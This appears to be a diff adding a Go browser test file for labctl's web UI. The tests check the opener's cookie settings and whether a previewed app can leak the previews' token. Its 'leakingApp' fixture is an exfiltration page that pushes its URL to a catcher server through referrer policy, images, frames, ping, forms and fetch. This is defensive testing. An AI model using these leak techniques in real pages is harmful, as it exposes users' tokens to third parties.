@@ -1,0 +1,310 @@
+//go:build e2e
+
+package web
+
+import (
+	"bytes"
+	"context"
+	"fmt"
+	"image"
+	"image/png"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/chromedp/cdproto/network"
+	"github.com/chromedp/cdproto/target"
+	"github.com/chromedp/chromedp"
+
+	"github.com/labctl/labctl/internal/web/assets"
+)
+
+// These tests drive the server in Debian's headless Chromium, with the
+// page's real files and a fake API server for the previews (no cluster):
+// what they prove is what the browser does with the server's answers.
+//
+//	go test -tags e2e -run TestBrowser ./internal/web/
+
+const chromium = "/usr/bin/chromium"
+
+// browserTab starts Chromium, headless, with a fresh profile, and returns
+// the context of its first tab; the browser ends with the test.
+func browserTab(t *testing.T) context.Context {
+	t.Helper()
+	if _, err := os.Stat(chromium); err != nil {
+		t.Fatalf("%s is missing: the browser tests need Debian's Chromium (make browser)", chromium)
+	}
+	opts := append(chromedp.DefaultExecAllocatorOptions[:],
+		chromedp.ExecPath(chromium),
+		chromedp.NoSandbox, // as root, Chromium refuses its own sandbox
+		chromedp.DisableGPU,
+		chromedp.Flag("disable-component-update", true),
+		chromedp.WindowSize(1280, 800),
+	)
+	allocCtx, cancelAlloc := chromedp.NewExecAllocator(context.Background(), opts...)
+	ctx, cancel := chromedp.NewContext(allocCtx, chromedp.WithErrorf(t.Logf))
+	t.Cleanup(func() {
+		chromedp.Cancel(ctx)
+		cancel()
+		cancelAlloc()
+	})
+	if err := chromedp.Do(ctx); err != nil {
+		t.Fatalf("starting %s: %v", chromium, err)
+	}
+	return ctx
+}
+
+// poll waits until the JavaScript expression cond is true in ctx's
+// document, through its navigations.
+func poll(t *testing.T, ctx context.Context, what, cond string) {
+	t.Helper()
+	var err error
+	for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
+		ectx, cancel := context.WithTimeout(ctx, 5*time.Second)
+		var ok bool
+		ok, err = chromedp.Run(ectx, chromedp.Evaluate[bool](cond))
+		cancel()
+		if err == nil && ok {
+			return
+		}
+	}
+	text, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`location.href + "\n" + (document.body?.innerText ?? "")`))
+	t.Fatalf("never %s (%v); the document is:\n%s", what, err, text)
+}
+
+func realPage(c *Config) { c.Assets = assets.FS }
+
+// TestBrowserOpensTheOpener opens the file labctl ui gives the browser, as
+// a browser started with its file:// URL does: it leads to the page, which
+// works (its cookie is set and sent), and the address bar holds no token.
+func TestBrowserOpensTheOpener(t *testing.T) {
+	ts := startServer(t, realPage)
+	o, err := NewOpener(t.TempDir(), ts.URL())
+	if err != nil {
+		t.Fatal(err)
+	}
+	ctx := browserTab(t)
+	if err := chromedp.Do(ctx, chromedp.Navigate(o.URL)); err != nil {
+		t.Fatal(err)
+	}
+	poll(t, ctx, "showed the lab's title", fmt.Sprintf(`document.querySelector("#lab-title")?.textContent.includes(%q)`, ts.lab.Metadata.Title))
+	loc, err := chromedp.Run(ctx, chromedp.Location())
+	if err != nil || loc != ts.base+"/" {
+		t.Errorf("the address bar shows %q (%v), want %s/", loc, err, ts.base)
+	}
+	got, err := chromedp.Call(ctx, network.GetCookies, network.GetCookiesParams{URLs: []string{ts.base + "/"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var found bool
+	for _, c := range got.Cookies {
+		if c.Name == cookieName {
+			found = true
+			if !c.HTTPOnly || c.SameSite != network.CookieSameSiteStrict || c.Path != "/" || c.Value != ts.Token() {
+				t.Errorf("the page's cookie is %+v: want HttpOnly, SameSite=Strict, Path=/", c)
+			}
+		}
+	}
+	if !found {
+		t.Errorf("no %s cookie after opening the file: %+v", cookieName, got.Cookies)
+	}
+}
+
+// referrerCatcher is a server on 127.0.0.1 of another port: a third party
+// to the preview. It records every request's path and Referer.
+type referrerCatcher struct {
+	*httptest.Server
+	mu  sync.Mutex
+	got []string
+}
+
+func newReferrerCatcher(t *testing.T) *referrerCatcher {
+	c := &referrerCatcher{}
+	c.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		c.mu.Lock()
+		c.got = append(c.got, r.Method+" "+r.URL.String()+" Referer: "+r.Referer())
+		c.mu.Unlock()
+		w.Header().Set("Content-Type", "text/html")
+		fmt.Fprint(w, "<title>caught</title>caught")
+	}))
+	t.Cleanup(c.Close)
+	return c
+}
+
+func (c *referrerCatcher) reset() {
+	c.mu.Lock()
+	defer c.mu.Unlock()
+	c.got = nil
+}
+
+func (c *referrerCatcher) requests() []string {
+	c.mu.Lock()
+	defer c.mu.Unlock()
+	return append([]string(nil), c.got...)
+}
+
+// leakingApp is the HTML of an app that wants its address sent to the
+// catcher at base: an unsafe-url referrer policy, as a meta element and on
+// each element, and every kind of request a document makes on its own.
+func leakingApp(base string) string {
+	return strings.ReplaceAll(`<!doctype html>
+<html><head><meta name="referrer" content="unsafe-url">
+<link rel="stylesheet" href="CATCHER/style.css" referrerpolicy="unsafe-url">
+<link rel="prefetch" href="CATCHER/prefetch">
+<meta http-equiv="refresh" content="3;url=CATCHER/refresh">
+<title>app</title></head>
+<body><p id="ready">the app</p>
+<img id="own" src="own.png">
+<img src="CATCHER/img.png" referrerpolicy="unsafe-url">
+<iframe src="CATCHER/frame"></iframe>
+<iframe name="sink"></iframe>
+<a id="nav" href="CATCHER/nav" referrerpolicy="unsafe-url">nav</a>
+<a id="pop" href="CATCHER/popup" target="_blank" referrerpolicy="unsafe-url">popup</a>
+<a id="top" href="CATCHER/top" target="_top">top</a>
+<a id="ping" href="#here" ping="CATCHER/ping">ping</a>
+<form id="form" action="CATCHER/form" method="post" target="sink"><button id="send">send</button></form>
+<script>
+fetch("CATCHER/fetch", {mode: "no-cors", referrerPolicy: "unsafe-url"}).catch(() => {});
+setTimeout(() => {
+  for (const id of ["ping", "pop", "top", "send"]) document.getElementById(id).click();
+  setTimeout(() => document.getElementById("nav").click(), 1000);
+}, 1000);
+</script>
+</body></html>`, "CATCHER", base)
+}
+
+// frameOf attaches to the frame (an iframe of an opaque origin is a target
+// of its own) showing url; cancel detaches.
+func frameOf(t *testing.T, ctx context.Context, url string) (context.Context, context.CancelFunc) {
+	t.Helper()
+	var id target.ID
+	deadline := time.Now().Add(20 * time.Second)
+	for id == "" {
+		infos, err := chromedp.Targets(ctx)
+		if err == nil {
+			for _, ti := range infos {
+				if ti.Type == "iframe" && ti.URL == url {
+					id = ti.TargetID
+				}
+			}
+		}
+		if time.Now().After(deadline) {
+			t.Fatalf("no frame shows %s: %v", url, infos)
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+	return chromedp.NewContext(ctx, chromedp.WithTargetID(id), chromedp.WithDetachOnCancel())
+}
+
+// attack waits until the leaking app shows in ctx, a tab or a frame, and
+// long enough for it to click its links and its form's button and for its
+// refresh.
+func attack(t *testing.T, fctx context.Context) {
+	t.Helper()
+	poll(t, fctx, "showed the app and its own image", `document.querySelector("#own")?.naturalWidth > 0`)
+	time.Sleep(5 * time.Second) // the clicks, the refresh, and any request still on its way
+}
+
+// TestBrowserPreviewKeepsItsTokenFromOthers shows a learner's app that
+// asks for an unsafe-url referrer policy (its header, a meta element and
+// the elements' own referrerpolicy, which a browser obeys over any header)
+// and sends the browser to a server on 127.0.0.1 of another port in every
+// way a document can: its images, styles, frames, prefetch, refresh, links
+// (in its frame, to a new window, to the top), ping, a form and fetch. The
+// preview's address holds the previews' token, which must reach no one. In
+// the page's preview tab nothing reaches the other server at all; opened
+// on its own (labctl open), only the app's own navigations do, and without
+// the token. First, the same app served without the preview's policy
+// shows that the browser would send its address.
+func TestBrowserPreviewKeepsItsTokenFromOthers(t *testing.T) {
+	catcher := newReferrerCatcher(t)
+	var pixel bytes.Buffer
+	if err := png.Encode(&pixel, image.NewGray(image.Rect(0, 0, 1, 1))); err != nil {
+		t.Fatal(err)
+	}
+	app := func(w http.ResponseWriter, rest string) {
+		if rest == "/own.png" {
+			w.Header().Set("Content-Type", "image/png")
+			w.Write(pixel.Bytes())
+			return
+		}
+		w.Header().Set("Content-Type", "text/html")
+		w.Header().Set("Referrer-Policy", "unsafe-url")
+		fmt.Fprint(w, leakingApp(catcher.URL))
+	}
+	api := newRecordingAPI(t, `{"kind":"ServiceList","apiVersion":"v1","items":[
+	  {"metadata":{"name":"web","namespace":"shop"},"spec":{"ports":[{"port":80,"protocol":"TCP"}]}}]}`)
+	api.answer = func(w http.ResponseWriter, _ *http.Request, rest string) { app(w, rest) }
+	ts := startServer(t, realPage, api.kube)
+	preview := ts.base + ts.pv("/preview/shop/web:80/")
+	leaked := func(t *testing.T, secret string) (got []string, leaks int) {
+		t.Helper()
+		got = catcher.requests()
+		for _, r := range got {
+			if strings.Contains(r, secret) {
+				leaks++
+			}
+			t.Logf("the other server got %s", r)
+		}
+		return got, leaks
+	}
+
+	t.Run("without the preview's policy", func(t *testing.T) {
+		plain := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+			app(w, strings.TrimPrefix(r.URL.Path, "/secret-in-the-path"))
+		}))
+		defer plain.Close()
+		ctx := browserTab(t)
+		if err := chromedp.Do(ctx, chromedp.Navigate(plain.URL+"/secret-in-the-path/")); err != nil {
+			t.Fatal(err)
+		}
+		attack(t, ctx)
+		if _, n := leaked(t, "Referer: "+plain.URL+"/secret-in-the-path/"); n == 0 {
+			t.Error("the app's own policy sent its address nowhere: this test shows nothing")
+		}
+		catcher.reset()
+	})
+	t.Run("in the page", func(t *testing.T) {
+		ctx := browserTab(t)
+		if err := chromedp.Do(ctx, chromedp.Navigate(ts.URL())); err != nil {
+			t.Fatal(err)
+		}
+		tab := `#preview-tabs [role=tab]`
+		poll(t, ctx, "showed the preview's tab", fmt.Sprintf(`document.querySelector(%q) !== null`, tab))
+		if err := chromedp.Do(ctx, chromedp.Click(chromedp.CSS(tab))); err != nil {
+			t.Fatal(err)
+		}
+		fctx, cancel := frameOf(t, ctx, preview)
+		defer cancel()
+		attack(t, fctx)
+		if got, n := leaked(t, ts.ptoken); n > 0 || len(got) > 0 {
+			t.Errorf("the previewed app reached another server %d times, %d of them with the previews' token", len(got), n)
+		}
+		catcher.reset()
+	})
+	t.Run("on its own", func(t *testing.T) {
+		ctx := browserTab(t)
+		if err := chromedp.Do(ctx, chromedp.Navigate(preview)); err != nil {
+			t.Fatal(err)
+		}
+		// The app leaves its address within a second: the requests that
+		// reach the other server tell that it ran.
+		time.Sleep(6 * time.Second)
+		got, n := leaked(t, ts.ptoken)
+		if n > 0 {
+			t.Errorf("the previews' token reached another server %d times", n)
+		}
+		if len(got) == 0 {
+			t.Error("the app, opened on its own, did not run: this test shows nothing")
+		}
+		for _, r := range got {
+			if p := strings.Fields(r)[1]; p != "/nav" && p != "/top" && p != "/refresh" && p != "/favicon.ico" {
+				t.Errorf("the previewed app, opened on its own, reached another server with more than a navigation: %s", r)
+			}
+		}
+	})
+}
